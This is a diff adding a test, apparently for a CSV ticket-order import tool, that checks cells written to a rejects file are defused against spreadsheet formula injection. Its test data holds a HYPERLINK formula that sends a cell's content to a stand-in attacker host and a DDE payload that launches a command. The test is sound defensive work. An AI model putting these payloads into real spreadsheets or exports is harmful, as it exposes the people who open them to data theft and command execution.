@@ -64,6 +64,24 @@ describe('lines to correct', () => {
     assert.deepEqual(await leaksIn(pool.root, ['zorglub', 'de la scène']), []);
   });
 
+  it('hold nothing that a spreadsheet program would run, whatever a buyer typed', async () => {
+    const typed = [`=HYPERLINK("http://evil.example/"&A1)`, `+cmd|' /C calc'!A0`, `@SUM(1)`];
+    const kept = ['="00123"', '+1 514 555-0100', '-12'];
+    const row = (note: string) =>
+      `C8;La Pièce;2024-10-04 20:00;le trois;2;40,00;;"${note.replaceAll('"', '""')}"`;
+    const tooMany = `C8;La Pièce;2024-10-04 20:00;2024-09-01;2;40,00;;=1+1;x`;
+    const good = Array.from({ length: 90 }, (_, i) => LINES[1]?.replace('C10', `C7${i}`));
+    const text = [LINES[0], ...good, ...[...typed, ...kept].map(row), tooMany, ''].join('\n');
+    const options = ['--rejects', join(pool.folder, 'formules')];
+    await pool.ingest([pool.file('formules.csv', text)], { organisation: 'maison-formules', options });
+    const written = readFileSync(join(pool.folder, 'formules', 'formules à corriger.csv'), 'utf8');
+    const quoted = (cell: string) => (/["]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
+    for (const cell of [...typed, '=1+1'].map((one) => `'${one}`))
+      assert.ok(written.includes(quoted(cell).slice(0, -1)), `${cell}\n${written}`);
+    for (const cell of kept) assert.match(written, new RegExp(`[,"]${cell.replaceAll(/[+"]/g, '.+')}[,"]`));
+    assert.doesNotMatch(written, /[,"](?:=HYP|\+cmd|@SUM|=1)/);
+  });
+
   it('make no file where there are none', async () => {
     const good = pool.file('bon.csv', [LINES[0], LINES[1]?.replace('C10', 'C9'), ''].join('\n'));
     const empty = join(pool.folder, 'aucun');
